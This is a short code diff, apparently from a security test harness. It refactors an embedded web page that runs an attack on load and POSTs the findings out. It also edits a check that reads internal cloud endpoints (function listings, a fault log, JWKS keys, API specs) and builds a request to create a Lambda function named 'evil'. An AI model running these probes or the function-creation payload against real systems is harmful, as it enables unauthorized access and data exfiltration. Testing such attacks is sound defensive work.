@@ -62,7 +62,8 @@ async function attack() {
   });
   return found;
 }
-addEventListener("load", () => attack().catch(String).then(found => fetch("/", {method: "POST", body: JSON.stringify(found)})));
+const tell = found => fetch("/", {method: "POST", body: JSON.stringify(found)});
+addEventListener("load", () => attack().catch(String).then(tell));
 </script><body></body>"""
 
 
@@ -155,8 +156,8 @@ def check(addresses, attacker):
     functions = f"{addresses['endpoint']}/2015-03-31/functions"
     apis = [addresses[name] for name in ("orders", "inventory", "relay", "payments")]
     documents = [f"{api}/api/openapi.json" for api in apis]
-    reads = [f"{functions}/", f"{addresses['endpoint']}/_trackops/faults", f"{addresses['issuer']}/.well-known/jwks.json",
-             *documents]
+    faults, keys = f"{addresses['endpoint']}/_trackops/faults", f"{addresses['issuer']}/.well-known/jwks.json"
+    reads = [f"{functions}/", faults, keys, *documents]
     archive = "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="  # an empty one
     body = {"FunctionName": "evil", "Runtime": "provided.al2023", "Handler": "bootstrap", "Code": {"ZipFile": archive},
             "Role": "arn:aws:iam::000000000000:role/any"}
